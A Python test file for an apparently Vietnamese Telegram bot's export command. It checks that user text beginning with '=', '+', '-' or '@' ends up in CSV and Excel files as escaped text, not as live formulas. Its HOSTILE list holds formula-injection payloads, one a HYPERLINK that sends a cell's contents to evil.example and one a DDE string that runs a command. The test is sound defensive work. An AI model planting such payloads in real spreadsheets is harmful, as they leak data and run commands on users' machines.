"""What comes out of /xuat is data, never a formula (issue 13 item 5): a taught answer, a question, a Telegram
name or a typed figure starting with "=", "+", "-" or "@" is written so that Excel shows it and runs nothing."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from . import test_officials
from .exported import named
from .test_officials import OFFICIAL, uploads

kb, desk, staffed = test_officials.kb, test_officials.desk, test_officials.staffed  # the same fixtures

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


async def test_no_exported_cell_is_a_formula(staffed):
    for n, text in enumerate(HOSTILE):
        await staffed.log(f"trong rung {n + 1} ha", OFFICIAL, name=text)
        staffed.store.add_curated([text, "câu hỏi thường"], text, None, OFFICIAL)
    files = uploads(await staffed.say("/xuat", OFFICIAL))
    cells = []
    for stem in ("so-lieu-", "nhat-ky-", "hoi-dap-"):
        rows = list(csv.reader(io.StringIO(named(files, stem, ".csv").decode("utf-8-sig"))))
        cells += [c for row in rows for c in row]
    book = load_workbook(io.BytesIO(named(files, "troly-xa-", ".xlsx")))
    xlsx = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in xlsx if c.data_type == "f"]
    texts_out = cells + [str(c.value) for c in xlsx]
    assert not [c for c in texts_out if c[:1] in ("=", "+", "-", "@")], "a live formula"
    for text in HOSTILE:  # each is still there, shown as typed after the quote
        assert "'" + text in cells and "'" + text in texts_out
    # numbers stay numbers
    header = [c.value for c in book["Số liệu"][1]]
    assert {row[header.index("Giá trị")] for row in book["Số liệu"].iter_rows(min_row=2, values_only=True)} == {
        1.0, 2.0, 3.0, 4.0}
